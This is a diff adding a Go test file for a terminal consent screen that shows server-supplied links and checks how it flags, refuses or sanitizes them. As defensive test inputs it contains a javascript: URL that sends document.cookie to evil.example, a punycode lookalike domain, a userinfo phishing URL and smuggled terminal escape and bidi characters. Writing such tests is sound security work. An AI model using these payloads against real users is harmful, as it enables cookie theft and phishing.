@@ -1,0 +1,221 @@
+package consent
+
+import (
+	"flag"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	tea "charm.land/bubbletea/v2"
+	"github.com/charmbracelet/x/ansi"
+	"github.com/google/go-cmp/cmp"
+
+	"github.com/elicitty/elicitty/elicit"
+	"github.com/elicitty/elicitty/elicit/urlsafe"
+)
+
+var update = flag.Bool("update", false, "rewrite testdata/*.golden")
+
+func urlReq(server, msg, url string) *elicit.Request {
+	return &elicit.Request{Server: server, Mode: elicit.ModeURL, Message: msg, URL: url,
+		ElicitationID: "lnk-7", Protocol: "2025-11-25"}
+}
+
+func press(s string) tea.KeyPressMsg {
+	switch s {
+	case "esc":
+		return tea.KeyPressMsg{Code: tea.KeyEscape}
+	case "enter":
+		return tea.KeyPressMsg{Code: tea.KeyEnter}
+	case "down":
+		return tea.KeyPressMsg{Code: tea.KeyDown}
+	case "up":
+		return tea.KeyPressMsg{Code: tea.KeyUp}
+	}
+	r := []rune(s)[0]
+	return tea.KeyPressMsg{Code: r, Text: s}
+}
+
+func golden(t *testing.T, name, got string) {
+	t.Helper()
+	path := filepath.Join("testdata", name+".golden")
+	if *update {
+		if err := os.WriteFile(path, []byte(got), 0o644); err != nil {
+			t.Fatal(err)
+		}
+		return
+	}
+	want, err := os.ReadFile(path)
+	if err != nil {
+		t.Fatalf("read golden (run with -update): %v", err)
+	}
+	if diff := cmp.Diff(string(want), got); diff != "" {
+		t.Errorf("%s (-want +got):\n%s", path, diff)
+	}
+}
+
+func TestModelGoldens(t *testing.T) {
+	tests := []struct {
+		name   string
+		req    *elicit.Request
+		policy urlsafe.Policy
+		opts   Options
+		keys   []string
+	}{
+		{"https", urlReq("demo", "Link your calendar so I can book the meeting.",
+			"https://auth.example.com/link?s=abc"), urlsafe.Policy{}, Options{OpenAllowed: true}, nil},
+		{"punycode", urlReq("shop", "Sign in to pay.", "https://xn--pple-43d.com/signin?next=%2Fpay"),
+			urlsafe.Policy{}, Options{OpenAllowed: true}, nil},
+		{"userinfo", urlReq("shop", "Confirm at your bank.", "https://www.mybank.example@login.evil.example:8443/confirm"),
+			urlsafe.Policy{}, Options{OpenAllowed: true}, nil},
+		{"javascript", urlReq("evil", "Click to continue.", "javascript:fetch('//evil.example/?c='+document.cookie)"),
+			urlsafe.Policy{}, Options{OpenAllowed: true}, nil},
+		{"copy-only", urlReq("demo", "Approve access.", "https://auth.example.com/link?s=abc"),
+			urlsafe.Policy{}, Options{OpenAllowed: false}, nil},
+		{"long-wrapped", urlReq("demo", "Authorize.", "https://accounts.example.co.uk/o/oauth2/v2/auth?client_id=1234567890-abcdefghijklmnop.apps.example&redirect_uri=http%3A%2F%2F127.0.0.1%3A33418%2Fcallback&response_type=code&scope=openid%20email&state=Zm9vYmFyYmF6"),
+			urlsafe.Policy{}, Options{OpenAllowed: true, Width: 60}, nil},
+		{"qr", urlReq("demo", "Scan it on your phone.", "https://ex.am/p"),
+			urlsafe.Policy{}, Options{OpenAllowed: true}, []string{"r"}},
+		{"refused-host", urlReq("demo", "Approve.", "https://evil.example/approve"),
+			urlsafe.Policy{AllowedHosts: []string{"*.example.com"}}, Options{OpenAllowed: true}, nil},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			tt.opts.NoColor = tt.name != "https" // one coloured run proves Strip removes styles only
+			m := New(tt.req, urlsafe.Analyze(tt.req.URL, tt.policy), tt.opts)
+			if tt.opts.Width == 0 {
+				m.SetSize(80, 24)
+			}
+			for _, k := range tt.keys {
+				m, _ = m.Update(press(k))
+			}
+			if _, done := m.Done(); done {
+				t.Fatalf("done after %v; the screen must wait for a choice", tt.keys)
+			}
+			golden(t, tt.name, ansi.Strip(m.View()))
+		})
+	}
+}
+
+func TestModelChoices(t *testing.T) {
+	https := "https://auth.example.com/link?s=abc"
+	tests := []struct {
+		name     string
+		url      string
+		open     bool
+		keys     []string
+		want     Choice
+		wantDone bool
+	}{
+		{"o opens", https, true, []string{"o"}, Open, true},
+		{"enter on default focus opens a clean URL", https, true, []string{"enter"}, Open, true},
+		{"enter on default focus declines a warned URL", "https://xn--pple-43d.com/", true, []string{"enter"}, Decline, true},
+		{"c copies", https, true, []string{"c"}, CopyOnly, true},
+		{"d declines", https, true, []string{"d"}, Decline, true},
+		{"esc cancels", https, true, []string{"esc"}, Cancel, true},
+		{"down then enter copies", https, true, []string{"down", "enter"}, CopyOnly, true},
+		{"up wraps to cancel", https, true, []string{"up", "enter"}, Cancel, true},
+		{"qr is not a choice", https, true, []string{"r", "r"}, 0, false},
+		{"copy-only ignores o", https, false, []string{"o"}, 0, false},
+		{"refused ignores o and c", "javascript:alert(1)", true, []string{"o", "c", "r"}, 0, false},
+		{"refused declines", "javascript:alert(1)", true, []string{"d"}, Decline, true},
+		{"refused enter declines", "http://example.com/", true, []string{"enter"}, Decline, true},
+		{"keys after done are ignored", https, true, []string{"d", "o"}, Decline, true},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			req := urlReq("demo", "m", tt.url)
+			m := New(req, urlsafe.Analyze(tt.url, urlsafe.Policy{}), Options{OpenAllowed: tt.open})
+			var msgs []tea.Msg
+			for _, k := range tt.keys {
+				var cmd tea.Cmd
+				m, cmd = m.Update(press(k))
+				msgs = append(msgs, run(cmd)...)
+			}
+			got, done := m.Done()
+			if got != tt.want || done != tt.wantDone {
+				t.Fatalf("Done() = %v, %v; want %v, %v", got, done, tt.want, tt.wantDone)
+			}
+			var dones []DoneMsg
+			for _, msg := range msgs {
+				if d, ok := msg.(DoneMsg); ok {
+					dones = append(dones, d)
+				}
+			}
+			if !tt.wantDone {
+				if len(dones) != 0 {
+					t.Fatalf("DoneMsg sent without a choice: %v", dones)
+				}
+				return
+			}
+			want := []DoneMsg{{Choice: tt.want}}
+			if tt.want == Open || tt.want == CopyOnly {
+				want[0].URL = tt.url
+			}
+			if diff := cmp.Diff(want, dones); diff != "" {
+				t.Errorf("DoneMsg (-want +got):\n%s", diff)
+			}
+		})
+	}
+}
+
+// run executes a command tree and returns its messages (batches flattened).
+func run(cmd tea.Cmd) []tea.Msg {
+	if cmd == nil {
+		return nil
+	}
+	msg := cmd()
+	if b, ok := msg.(tea.BatchMsg); ok {
+		var out []tea.Msg
+		for _, c := range b {
+			out = append(out, run(c)...)
+		}
+		return out
+	}
+	return []tea.Msg{msg}
+}
+
+func TestModelCopyRequestsClipboard(t *testing.T) {
+	u := "https://auth.example.com/link?s=abc"
+	m := New(urlReq("demo", "m", u), urlsafe.Analyze(u, urlsafe.Policy{}), Options{OpenAllowed: true})
+	_, cmd := m.Update(press("c"))
+	msgs := run(cmd)
+	if len(msgs) != 2 {
+		t.Fatalf("copy produced %d messages, want clipboard + done: %#v", len(msgs), msgs)
+	}
+}
+
+func TestModelViewShowsFullURLAtEveryWidth(t *testing.T) {
+	u := "https://login.example.com/authorize?" + strings.Repeat("x=1&", 80) + "end"
+	a := urlsafe.Analyze(u, urlsafe.Policy{})
+	for _, w := range []int{20, 40, 80, 200} {
+		m := New(urlReq("demo", "m", u), a, Options{Width: w, NoColor: true, OpenAllowed: true})
+		v := m.View()
+		var joined strings.Builder
+		in := false
+		for _, l := range strings.Split(v, "\n") {
+			switch {
+			case strings.HasPrefix(l, "Link (shown in full):"):
+				in = true
+			case in && strings.HasPrefix(l, "  "):
+				joined.WriteString(strings.TrimPrefix(l, "  "))
+			case in:
+				in = false
+			}
+		}
+		if joined.String() != u {
+			t.Errorf("width %d: URL lines join to %q, want the full URL", w, joined.String())
+		}
+	}
+}
+
+func TestModelSanitizesServerText(t *testing.T) {
+	u := "https://auth.example.com/"
+	req := urlReq("de\x1b[31mmo", "Click \x1b]8;;https://evil.example/\x07here\x1b]8;;\x07 \u202Eplease", u)
+	m := New(req, urlsafe.Analyze(u, urlsafe.Policy{}), Options{NoColor: true, OpenAllowed: true})
+	v := m.View()
+	if strings.ContainsRune(v, '\x1b') || strings.ContainsRune(v, '\u202E') {
+		t.Errorf("view contains raw escape or bidi control:\n%q", v)
+	}
+}
